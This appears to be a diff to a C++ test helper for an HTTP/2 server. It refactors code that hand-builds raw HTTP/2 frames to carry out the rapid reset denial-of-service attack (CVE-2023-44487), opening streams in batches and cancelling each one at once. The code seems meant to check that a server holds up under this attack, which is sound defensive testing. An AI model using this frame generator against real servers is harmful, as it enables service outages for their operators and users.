@@ -12,6 +12,7 @@
 #include <sys/socket.h>
 #include <unistd.h>
 
+#include <algorithm>
 #include <atomic>
 #include <cerrno>
 #include <chrono>
@@ -240,18 +241,28 @@ inline std::string HttpFrame(char type, char flags, std::uint32_t stream, const 
   return bytes + payload;
 }
 
+// Frames that open `count` streams with this path, from the stream `first` on (0 is the connection's first), and with
+// `reset` reset each one at once. No message follows. All but the first take 15 bytes: they refer to its headers.
+inline std::string OpenStreams(const std::string& path, std::uint32_t first, std::uint32_t count, bool reset) {
+  std::string header = std::string("\x83\x86\x44") + static_cast<char>(path.size()) + path + "\x41\x01" + "a" +
+                       "\x40\x02te\x08trailers" + "\x5f\x10" + "application/grpc";
+  const std::string cancel("\0\0\0\x08", 4);
+  std::string bytes;
+  for (std::uint32_t n = first; n < first + count; ++n) {
+    bytes += HttpFrame(1, 4, 2 * n + 1, header);
+    if (reset) bytes += HttpFrame(3, 0, 2 * n + 1, cancel);
+    header = "\x83\x86\xc1\xc0\xbf\xbe";
+  }
+  return bytes;
+}
+
 // HTTP/2 rapid reset (CVE-2023-44487): opens streams with this path and, with `reset`, resets each one at once. No
 // settings are acknowledged. Ends early where the other side ends the connection.
 inline void OpenAndReset(RawConnection* connection, const std::string& path, std::uint32_t streams, bool reset = true) {
-  const std::string header = std::string("\x83\x86\x44") + static_cast<char>(path.size()) + path + "\x41\x01" + "a" +
-                             "\x40\x02te\x08trailers" + "\x5f\x10" + "application/grpc";
-  const std::string cancel("\0\0\0\x08", 4);
   std::string bytes = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + HttpFrame(4, 0, 0, "");
   if (streams == 0) connection->Say(bytes);
-  for (std::uint32_t n = 0; n < streams; ++n) {
-    bytes += HttpFrame(1, 4, 2 * n + 1, header);
-    if (reset) bytes += HttpFrame(3, 0, 2 * n + 1, cancel);
-    if (n % 100 != 99 && n + 1 != streams) continue;
+  for (std::uint32_t n = 0; n < streams; n += 100) {
+    bytes += OpenStreams(path, n, std::min<std::uint32_t>(100, streams - n), reset);
     if (!connection->Say(bytes) || connection->Closed()) return;
     bytes.clear();
   }
